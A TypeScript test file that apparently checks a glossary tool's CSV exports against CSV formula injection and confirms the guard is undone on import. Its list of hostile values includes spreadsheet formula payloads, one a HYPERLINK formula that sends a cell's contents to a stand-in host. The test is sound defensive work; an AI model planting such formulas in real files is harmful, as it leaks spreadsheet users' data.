import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import { describe, test } from 'node:test';
import { ConceptRepository } from '../../db/concepts.ts';
import { openDatabase } from '../../db/connection.ts';
import { type ExportFormat, exportGlossary } from '../../db/interchange/export.ts';
import { importStream } from '../../db/interchange/import.ts';

/**
 * CSV layouts open in a spreadsheet without evaluating anything. Excel and LibreOffice run a
 * cell as a formula when it starts with = + - @, a tab or a carriage return (CSV injection), so
 * no cell of any layout may start with one of those unguarded, whatever the glossary holds.
 * (LibreOffice itself is not run here: 66 Debian packages, about 285 MB, not installed in CI;
 * the property it depends on is checked on the bytes instead.)
 */

const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+twice",
];
const FORMULA = /^[=+\-@\t\r]/;

/** RFC 4180 cells of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function cells(csv: string): string[] {
  const out: string[] = [];
  let i = csv.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < csv.length) {
    let cell = '';
    if (csv[i] === '"') {
      i++;
      for (;;) {
        const q = csv.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quote');
        cell += csv.slice(i, q);
        i = q + 1;
        if (csv[i] === '"') {
          cell += '"';
          i++;
        } else break;
      }
    } else {
      const end = csv.slice(i).search(/,|\r\n/);
      cell = end < 0 ? csv.slice(i) : csv.slice(i, i + end);
      i += cell.length;
    }
    out.push(cell);
    if (csv.startsWith('\r\n', i)) i += 2;
    else if (csv[i] === ',') i++;
  }
  return out;
}

async function exportText(db: ReturnType<typeof openDatabase>['db'], format: ExportFormat): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await exportGlossary(db, out, { format });
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

function hostileGlossary() {
  const { db } = openDatabase(':memory:');
  const repo = new ConceptRepository(db);
  for (const [i, v] of HOSTILE.entries()) {
    repo.create(
      {
        externalId: `${v}#${i}`,
        subject: v,
        definition: v,
        note: v,
        terms: [
          { text: `${v} ${i}`, lang: 'en', status: 'preferred', note: v, source: v, region: v, partOfSpeech: v.slice(0, 40) },
          { text: `${v} 译${i}`, lang: 'zh-CN', status: 'preferred', note: v },
          { text: `${v} 第二${i}`, lang: 'zh-CN', status: 'admitted' },
        ],
      },
      { actor: 'test' },
    );
  }
  return db;
}

describe('CSV exports never start a cell with a formula', () => {
  test('the cell reader sees a formula when one is there (the check can fail)', () => {
    assert.ok(cells('a,"=1+1"\r\n-2,b\r\n').some((c) => FORMULA.test(c)));
  });

  for (const format of ['csv', 'csv-lossless'] as const) {
    test(`${format}: hostile ids, subjects, definitions, notes and terms are all guarded`, async () => {
      const db = hostileGlossary();
      const all = cells(await exportText(db, format));
      const hostile = all.filter((c) => HOSTILE.some((h) => c.includes(h.replace(/^'*/, ''))));
      assert.ok(hostile.length >= HOSTILE.length * 4, `the hostile values are in the file (${hostile.length} cells)`);
      assert.deepEqual(
        all.filter((c) => FORMULA.test(c)),
        [],
      );
      db.close();
    });

    test(`${format}: the guard comes off again on import (terms and notes come back as written)`, async () => {
      const db = hostileGlossary();
      const csv = await exportText(db, format);
      const { db: back } = openDatabase(':memory:');
      await importStream(
        back,
        (async function* () {
          yield Buffer.from(csv);
        })(),
        { format: 'csv' },
      );
      const texts = (d: typeof db) =>
        new ConceptRepository(d)
          .all()
          .flatMap((c) => c.terms.map((t) => `${t.lang} ${t.text} ${t.note ?? ''}`))
          .sort();
      assert.deepEqual(texts(back), texts(db));
      back.close();
      db.close();
    });
  }
});
